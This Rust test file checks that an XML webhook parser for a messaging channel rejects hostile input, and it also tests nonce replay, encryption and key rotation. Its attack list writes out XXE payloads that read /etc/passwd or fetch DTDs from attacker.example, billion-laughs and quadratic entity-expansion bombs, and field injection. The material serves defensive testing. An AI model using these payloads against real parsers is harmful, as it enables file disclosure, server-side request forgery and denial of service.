//! XML that attacks whoever reads it, nonces said twice, and any bytes at all.

use engine::inbox::inbound::InboundKind;
use http::StatusCode;
use proptest::prelude::*;
use serde_json::json;
use testkit::channel_conformance::NOW;
use transport::Rejection;

use super::{AES_KEY, TOKEN, account, nonce_of, plain, sealed, signed, signed_at, text, xml};

/// Bodies that are well signed and must be refused as malformed, none of them read any further.
pub(super) fn attacks() -> Vec<Vec<u8>> {
    let message = "<xml><FromUserName>o</FromUserName><MsgType>text</MsgType><Content>";
    let end = "</Content></xml>";
    let laughs: String =
        (1..10).map(|n| format!("<!ENTITY l{n} \"&l{};&l{};\">", n - 1, n - 1)).collect();
    let deep = format!("<xml>{}{}</xml>", "<a>".repeat(5_000), "</a>".repeat(5_000));
    let wide: String = (0..400).map(|n| format!("<f{n}/>")).collect();
    [
        format!("<!DOCTYPE xml>{message}private{end}"),
        format!("<!DOCTYPE x [<!ENTITY f SYSTEM \"file:///etc/passwd\">]>{message}&f;{end}"),
        format!("<!DOCTYPE x [<!ENTITY h SYSTEM \"http://attacker.example/\">]>{message}&h;{end}"),
        format!("<!DOCTYPE x [<!ENTITY % p SYSTEM \"http://attacker.example/d.dtd\">%p;]>{message}x{end}"),
        format!("<!DOCTYPE x SYSTEM \"http://attacker.example/d.dtd\">{message}x{end}"),
        format!("<!DOCTYPE x PUBLIC \"-//X//X\" \"file:///dev/random\">{message}x{end}"),
        format!("<!DOCTYPE x [<!ENTITY l0 \"ha\">{laughs}]>{message}&l9;{end}"),
        format!("<!DOCTYPE x [<!ENTITY q \"{}\">]>{message}{}{end}", "q".repeat(10_000), "&q;".repeat(1_000)),
        format!("<?xml version=\"1.0\"?>\n<!doctype xml>{message}x{end}"),
        format!("{message}&lol;{end}"),
        format!("{message}&xxe;{end}"),
        format!("{message}&#xD800;{end}"),
        format!("{message}&#1114112;{end}"),
        format!("{message}& private{end}"),
        format!("{message}x</Content><Content>y{end}"),
        format!("{message}x</Content><FromUserName>another</FromUserName></xml>"),
        format!("{message}<![CDATA[never closed{end}"),
        format!("{message}<!-- never closed{end}"),
        format!("<xml>{wide}</xml>"),
        deep,
    ]
    .map(String::into_bytes)
    .to_vec()
}

#[test]
fn attacks_by_xml_are_refused_plain_and_encrypted() {
    let safe = account(json!({}), &[("token", TOKEN), ("encoding_aes_key", AES_KEY)]);
    for body in attacks() {
        let shown = String::from_utf8_lossy(&body[..body.len().min(120)]).into_owned();
        for (mode, outcome) in [
            ("plain", plain().parse(&signed(TOKEN, &body))),
            ("safe", safe.parse(&sealed(TOKEN, &body))),
        ] {
            let rejection = outcome.expect_err(&shown);
            assert_eq!(rejection.status(), StatusCode::BAD_REQUEST, "{mode} {shown}: {rejection}");
            assert!(!rejection.to_string().contains("private"), "{rejection}");
        }
    }
}

#[test]
fn what_only_looks_like_an_attack_is_read() {
    let said = |body: &[u8]| {
        let inbounds = plain().parse(&signed(TOKEN, body)).unwrap();
        serde_json::to_value(&inbounds[0].kind).unwrap()["parts"][0]["text"]
            .as_str()
            .unwrap()
            .to_owned()
    };
    let raw = |content: &str| {
        format!("<xml>\n<FromUserName>o</FromUserName>\n<MsgType>text</MsgType>\n<Content>{content}</Content>\n</xml>")
            .into_bytes()
    };
    for (content, expected) in [
        (
            "<![CDATA[<!DOCTYPE x [<!ENTITY a \"b\">]> &a;]]>",
            "<!DOCTYPE x [<!ENTITY a \"b\">]> &a;",
        ),
        ("1 &lt; 2 &amp;&amp; 3 &gt; 2", "1 < 2 && 3 > 2"),
        ("&#20320;&#x597d;", "你好"),
        ("a<![CDATA[b]]>c", "abc"),
        ("<![CDATA[a]]]]><![CDATA[>b]]>", "a]]>b"),
        ("<!-- no --><![CDATA[ kept ]]>", " kept "),
        ("", ""),
    ] {
        assert_eq!(said(&raw(content)), expected, "{content}");
    }
}

#[test]
fn a_nonce_is_good_for_one_event() {
    let channel = plain();
    let first = signed_at(TOKEN, &text("1", "one red mug"), NOW, "n1");
    let forged = signed_at(TOKEN, &text("2", "a thousand red mugs"), NOW, "n1");
    let anew = signed_at(TOKEN, &text("1", "one red mug"), NOW.plus_ms(5_000), "n2");
    let key = channel.parse(&first).unwrap()[0].event_key.clone();
    assert_eq!(channel.parse(&first).unwrap()[0].event_key, key, "redelivered as it was");
    assert_eq!(channel.parse(&anew).unwrap()[0].event_key, key, "redelivered with a new nonce");
    let refused = channel.parse(&forged).expect_err("its signature was seen with another message");
    assert!(matches!(refused, Rejection::BadSignature { .. }), "{refused}");
    // What could not be read uses up no nonce.
    assert!(channel.parse(&signed_at(TOKEN, b"<xml>", NOW, "n3")).is_err());
    assert!(channel.parse(&signed_at(TOKEN, &text("3", "x"), NOW, "n3")).is_ok());
}

#[test]
fn an_encrypted_call_without_a_key_is_not_configured() {
    let outcome = plain().parse(&sealed(TOKEN, &text("1", "x")));
    assert_eq!(outcome, Err(Rejection::NotConfigured));
}

#[test]
fn compatible_mode_reads_what_is_encrypted() {
    let safe = account(json!({}), &[("token", TOKEN), ("encoding_aes_key", AES_KEY)]);
    let encrypted = super::encrypt(AES_KEY, &text("1", "true"), super::APP_ID);
    let both =
        xml(&[("MsgType", "text"), ("MsgId", "1"), ("Content", "forged"), ("Encrypt", &encrypted)]);
    let request = super::enveloped(TOKEN, &both, &encrypted, "n1");
    for (channel, expected) in [(safe, "true"), (plain(), "forged")] {
        let kind = channel.parse(&request).unwrap().remove(0).kind;
        let InboundKind::Message { parts, .. } = kind else { panic!("a message") };
        assert_eq!(serde_json::to_value(&parts[0]).unwrap()["text"], expected);
    }
}

#[test]
fn an_old_key_opens_while_it_is_replaced() {
    let other = AES_KEY.replace('k', "m");
    let both = account(
        json!({}),
        &[("token", TOKEN), ("encoding_aes_key", &format!("{other},{AES_KEY}"))],
    );
    for key in [AES_KEY, &other] {
        let request = super::sealed_for(TOKEN, &text("1", "x"), key, super::APP_ID);
        assert!(both.parse(&request).is_ok());
    }
}

proptest! {
    #[test]
    fn any_bytes_are_answered(body in prop::collection::vec(any::<u8>(), 0..300), query in "[a-z=&%0-9]{0,80}") {
        let _ = plain().parse(&signed(TOKEN, &body));
        let safe = account(json!({}), &[("token", TOKEN), ("encoding_aes_key", AES_KEY)]);
        let _ = safe.parse(&sealed(TOKEN, &body));
        let mut request = signed(TOKEN, &body);
        request.query = query;
        prop_assert!(plain().parse(&request).is_err());
        prop_assert!(plain().handshake(&request).is_err());
    }

    #[test]
    fn any_fields_are_accepted_the_same_way_each_time(
        kind in prop::sample::select(vec!["text", "image", "voice", "video", "location", "link", "event", "x"]),
        event in prop::sample::select(vec!["subscribe", "SCAN", "CLICK", "VIEW", "LOCATION", "unsubscribe", "y"]),
        values in prop::collection::vec("[^\\x00-\\x08\\x0b\\x0c\\x0e-\\x1f\\]]{0,12}", 8),
    ) {
        let names = ["MsgId", "Content", "EventKey", "MediaId", "Location_X", "Latitude", "Url", "bizmsgmenuid"];
        let mut fields = vec![("MsgType", kind), ("Event", event)];
        fields.extend(names.iter().copied().zip(values.iter().map(String::as_str)));
        let request = signed(TOKEN, &xml(&fields));
        let first = plain().parse(&request).unwrap();
        prop_assert_eq!(&first, &plain().parse(&request).unwrap());
        prop_assert_eq!(first.len(), 1);
        prop_assert!(!first[0].event_key.is_empty() && first[0].event_key.len() <= 200);
    }

    #[test]
    fn what_was_said_arrives_as_it_was_said(said in "[^\\x00-\\x08\\x0b-\\x0c\\x0d\\x0e-\\x1f\\]]{0,60}") {
        let body = text("1", &said);
        let inbounds = plain().parse(&signed_at(TOKEN, &body, NOW, &nonce_of(&body))).unwrap();
        let kind = serde_json::to_value(&inbounds[0].kind).unwrap();
        // XML reads two kinds of line ends as one, in CDATA too.
        let expected = said.replace(['\u{85}', '\u{2028}'], "\n");
        let found = kind["parts"][0]["text"].as_str().unwrap().replace(['\u{85}', '\u{2028}'], "\n");
        prop_assert_eq!(found, expected);
    }
}
